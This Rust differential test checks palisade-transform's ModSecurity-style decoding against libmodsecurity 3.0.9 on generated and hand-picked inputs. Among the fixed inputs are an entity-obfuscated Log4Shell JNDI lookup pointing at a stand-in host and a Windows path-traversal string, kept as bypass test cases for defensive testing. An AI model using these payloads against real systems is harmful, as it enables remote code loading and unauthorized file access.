//! Differential test against the real ModSecurity: every transformation of libmodsecurity (the
//! installed Debian 3.0.9, through `oracle/modsec_transform.cc`) and of `palisade-transform` on the
//! same inputs, thousands of them, generated to hit each transformation's trigger bytes, edge
//! positions and invalid encodings.
//!
//! The documented differences from 3.0.9 (see each transformation's module) are applied to our
//! output before comparing, so that everything else still has to agree byte for byte:
//! `cssDecode` is compared up to its first NUL (3.0.9 truncates there), `utf8toUnicode` without a
//! final NUL that 3.0.9 drops, and `sqlHexDecode` is not compared (3.0.9 drops the last byte of
//! most values; we follow v3/master).
//!
//! Needs a C++ compiler, `pkg-config` and `libmodsecurity-dev`; where `pkg-config` does not know
//! `modsecurity`, the test says so and counts every comparison as skipped. Closing line:
//! `libmodsecurity oracle: P passed, F failed, S skipped`; it fails when F > 0.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use palisade_transform::{TransformContext, TransformId, UnicodeMap, apply};

/// The name libmodsecurity's `Transformation::instantiate` knows for each transformation.
fn modsec_name(id: TransformId) -> &'static str {
    match id {
        TransformId::CmdLine => "cmd_line",
        other => other.name(),
    }
}

/// A small deterministic generator (xorshift64*), so failures reproduce.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// Fragments that matter to some transformation; inputs are random concatenations of them.
const FRAGMENTS: &[&[u8]] = &[
    b"%",
    b"%u",
    b"%U",
    b"+",
    b"0",
    b"1",
    b"2",
    b"3",
    b"4",
    b"7",
    b"8",
    b"9",
    b"a",
    b"f",
    b"F",
    b"x",
    b"X",
    b"g",
    b"z",
    b"&",
    b"#",
    b";",
    b"&#",
    b"&#x",
    b"amp",
    b"lt",
    b"GT",
    b"quot",
    b"nbsp",
    b"\\",
    b"\\u",
    b"\\x",
    b"/",
    b".",
    b"..",
    b"./",
    b"../",
    b"*",
    b"/*",
    b"*/",
    b"-",
    b"--",
    b"-->",
    b"<!--",
    b"<",
    b"!",
    b">",
    b" ",
    b"  ",
    b"\t",
    b"\n",
    b"\r",
    b"\x0b",
    b"\x0c",
    b"\0",
    b"\x80",
    b"\xa0",
    b"\xc2",
    b"\xc3",
    b"\xa9",
    b"\xe2\x82",
    b"\xac",
    b"\xed\xa0",
    b"\xf0\x9f",
    b"\x98\x80",
    b"\xf5",
    b"\xff",
    b"ff",
    b"FF0",
    b"00",
    b"0x",
    b"0X",
    b"=",
    b"==",
    b"QUJD",
    b"VGVz",
    b"Q",
    b"^",
    b"\"",
    b"'",
    b",",
    b"(",
    b"A",
    b"Z",
    b"e",
    b"\\\n",
    b"%2",
    b"%41",
    b"%u00",
    b"%uff1",
    b"3002",
    b"c",
    b"C:",
    b"\\\\",
];

fn generate(rng: &mut Rng) -> Vec<u8> {
    let mut v = Vec::new();
    let parts = rng.below(14);
    for _ in 0..parts {
        if rng.below(8) == 0 {
            v.push(rng.next() as u8);
        } else {
            v.extend_from_slice(FRAGMENTS[rng.below(FRAGMENTS.len())]);
        }
    }
    v
}

/// Hand-picked inputs from the issue's list of bypass and crash shapes.
fn fixed_inputs() -> Vec<Vec<u8>> {
    let mut v: Vec<Vec<u8>> = [
        &b""[..],
        b"a",
        b"ab",
        b"abc",
        b"&#00000000000000000000000000000000000000000000000123;",
        b"&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}",
        b"&#99999999999999999999999;&#x7fffffffffffffff41;&#x8000000000000041",
        b"&#4142;&#x4142;&ltfoo;&LT;&nbsp",
        b"%",
        b"%4",
        b"%zz",
        b"%u",
        b"%u004",
        b"%u004g",
        b"%uFF1Cx",
        b"%%41",
        b"\xc3",
        b"\xc3(",
        b"\xe2\x82",
        b"\xf0\x9f\x98",
        b"\xc0\x80",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xf8\x88\x80\x80\x80",
        b"a\0",
        b"\0",
        b"\0a",
        b"/a/b/../../../c/./d//e/",
        b"..\\..\\windows\\win.ini",
        b"/.",
        b"/..",
        b".",
        b"..",
        b"/**/",
        b"/*",
        b"*/",
        b"<!--",
        b"-->",
        b"--",
        b"#",
        b"\\",
        b"\\x",
        b"\\u",
        b"\\0",
        b"\\777",
        b"\\400",
    ]
    .iter()
    .map(|s| s.to_vec())
    .collect();
    // Every single byte and every pair of two interesting bytes.
    v.extend((0..=255u8).map(|b| vec![b]));
    v
}

/// A unicode map file of our own in ModSecurity's `unicode.mapping` format: other sections
/// before and after, a remapped built-in entry (`3002`), an entry meaning "unmapped"
/// (`ffffffff` is -1 as an `int`) and one wider than a byte (`1ff`). Tokens whose halves are not
/// hex (`zz:41`, `:42`) are left out: v3.0.9 reads them with `sscanf("%x")`, which then keeps the
/// previous token's number, while v3/master (and Palisade) read them with `strtol` (0).
const MAP_FILE: &[u8] = b"(MAC - Roman)\n\n1250  (ANSI - Central Europe)\n00a1:21 00c0:41\n\n\
20127  (US-ASCII)\n00a0:20 00c0:61 ff1c:5b 3002:2c 0041:ffffffff 00c1:1ff 0x00c2:0x63\n\
\n20261  (T.61)\n00c0:62\n";

fn build_oracle(dir: &Path) -> Option<PathBuf> {
    let flags = Command::new("pkg-config")
        .args(["--cflags", "--libs", "modsecurity"])
        .output()
        .ok()
        .filter(|o| o.status.success())?;
    let flags = String::from_utf8(flags.stdout).unwrap();
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("oracle/modsec_transform.cc");
    let binary = dir.join("modsec_transform");
    let cxx = std::env::var("CXX").unwrap_or_else(|_| "c++".into());
    let status = Command::new(cxx)
        .args(["-O1", "-std=gnu++17", "-o"])
        .arg(&binary)
        .arg(&source)
        .args(flags.split_whitespace())
        .status()
        .expect("run the C++ compiler");
    assert!(status.success(), "building {} failed", source.display());
    Some(binary)
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len() / 2)
        .map(|k| u8::from_str_radix(&s[2 * k..2 * k + 2], 16).unwrap())
        .collect()
}

/// Runs the oracle over `cases` (name, input) and returns its outputs.
fn ask(binary: &Path, extra: &[&str], cases: &[(TransformId, Vec<u8>)]) -> Vec<Vec<u8>> {
    let mut child = Command::new(binary)
        .args(extra)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("start the oracle");
    let mut text = String::new();
    for (id, input) in cases {
        text.push_str(modsec_name(*id));
        text.push('\t');
        text.push_str(&hex(input));
        text.push('\n');
    }
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || stdin.write_all(text.as_bytes()).unwrap());
    let out = child.wait_with_output().expect("oracle output");
    writer.join().unwrap();
    assert!(out.status.success(), "the oracle failed");
    let lines: Vec<Vec<u8>> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(unhex)
        .collect();
    assert_eq!(lines.len(), cases.len(), "one oracle line per case");
    lines
}

/// Our output, adjusted for the documented differences from 3.0.9; `None`: not comparable.
fn as_309(id: TransformId, input: &[u8], ours: &[u8]) -> Option<Vec<u8>> {
    match id {
        TransformId::SqlHexDecode => None,
        TransformId::CssDecode => {
            let end = ours.iter().position(|&b| b == 0).unwrap_or(ours.len());
            Some(ours[..end].to_vec())
        }
        TransformId::Utf8ToUnicode if input.last() == Some(&0) => {
            Some(ours.strip_suffix(b"\0").unwrap_or(ours).to_vec())
        }
        _ => Some(ours.to_vec()),
    }
}

fn main() {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("modsec-oracle");
    std::fs::create_dir_all(&dir).unwrap();

    let mut rng = Rng(0x5eed_cafe_f00d_0001);
    let mut inputs = fixed_inputs();
    for _ in 0..3000 {
        inputs.push(generate(&mut rng));
    }
    let ids: Vec<TransformId> = TransformId::ALL
        .into_iter()
        .filter(|&id| id != TransformId::None)
        .collect();
    let mut cases = Vec::new();
    for &id in &ids {
        for input in &inputs {
            cases.push((id, input.clone()));
        }
    }
    // urlDecodeUni again, with a unicode map.
    let map_path = dir.join("unicode.mapping");
    std::fs::write(&map_path, MAP_FILE).unwrap();
    let map_cases: Vec<(TransformId, Vec<u8>)> = inputs
        .iter()
        .map(|i| (TransformId::UrlDecodeUni, i.clone()))
        .collect();

    let Some(binary) = build_oracle(&dir) else {
        let total = cases.len() + map_cases.len();
        println!(
            "libmodsecurity oracle: pkg-config does not know `modsecurity` (install libmodsecurity-dev)"
        );
        println!("libmodsecurity oracle: 0 passed, 0 failed, {total} skipped");
        return;
    };

    let (mut passed, mut failed, mut skipped) = (0usize, 0usize, 0usize);
    let mut failures: BTreeMap<&str, Vec<String>> = BTreeMap::new();
    let mut check =
        |label: &'static str, id: TransformId, input: &[u8], ours: &[u8], theirs: &[u8]| {
            match as_309(id, input, ours) {
                None => skipped += 1,
                Some(adjusted) if adjusted == theirs => passed += 1,
                Some(adjusted) => {
                    failed += 1;
                    failures.entry(label).or_default().push(format!(
                        "{}: input \"{}\"\n    libmodsecurity \"{}\"\n    palisade       \"{}\"",
                        id.name(),
                        input.escape_ascii(),
                        theirs.escape_ascii(),
                        adjusted.escape_ascii()
                    ));
                }
            }
        };

    let ctx = TransformContext::default();
    let theirs = ask(&binary, &[], &cases);
    for ((id, input), theirs) in cases.iter().zip(&theirs) {
        check(
            "no unicode map",
            *id,
            input,
            &apply(*id, input, &ctx),
            theirs,
        );
    }

    let map_ctx =
        TransformContext::new().with_unicode_map(UnicodeMap::parse(MAP_FILE, 20127.0).unwrap());
    let map_arg = map_path.to_str().unwrap();
    let theirs = ask(&binary, &["--unicode-map", map_arg, "20127"], &map_cases);
    for ((id, input), theirs) in map_cases.iter().zip(&theirs) {
        check(
            "unicode map 20127",
            *id,
            input,
            &apply(*id, input, &map_ctx),
            theirs,
        );
    }

    for (label, list) in &failures {
        eprintln!("{} differences ({label}); the first ones:", list.len());
        for f in list.iter().take(25) {
            eprintln!("  {f}");
        }
    }
    println!("libmodsecurity oracle: {passed} passed, {failed} failed, {skipped} skipped");
    assert_eq!(failed, 0, "palisade-transform differs from libmodsecurity");
}
